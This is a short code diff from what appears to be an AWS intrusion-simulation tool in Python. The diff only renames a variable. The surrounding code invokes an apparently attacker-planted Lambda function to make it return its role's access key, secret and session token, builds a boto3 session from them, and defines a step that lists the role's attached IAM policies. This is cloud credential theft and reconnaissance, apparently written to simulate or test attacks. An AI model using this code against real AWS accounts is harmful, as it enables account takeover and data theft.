@@ -383,18 +383,18 @@ def steal_credentials(breach: Any, facts: Facts) -> boto3.Session:
 
 
 def _steal(breach: Any, facts: Facts) -> boto3.Session:
-    told = _invoke(breach, facts["function"], {"operation": "tell credentials"})
-    key, secret, token = (told[name] for name in intruder.CREDENTIALS)
+    reply = _invoke(breach, facts["function"], {"operation": "tell credentials"})
+    key, secret, token = (reply[name] for name in intruder.CREDENTIALS)
     return boto3.Session(key, secret, token, facts["region"])
 
 
 def _invoke(awslambda: Any, function: str, event: Mapping[str, Any]) -> dict[str, str]:
     answer = awslambda.invoke(FunctionName=function, Payload=json.dumps(event))
     with contextlib.closing(answer["Payload"]) as payload:
-        told: dict[str, str] = json.load(payload)
+        reply: dict[str, str] = json.load(payload)
     if "FunctionError" in answer:
-        raise RuntimeError(f"the attacker's code failed: {told}")
-    return told
+        raise RuntimeError(f"the attacker's code failed: {reply}")
+    return reply
 
 
 SEE_POLICIES = Attempt("see policies", "iam.list_attached_role_policies", {"RoleName": "{role}"})
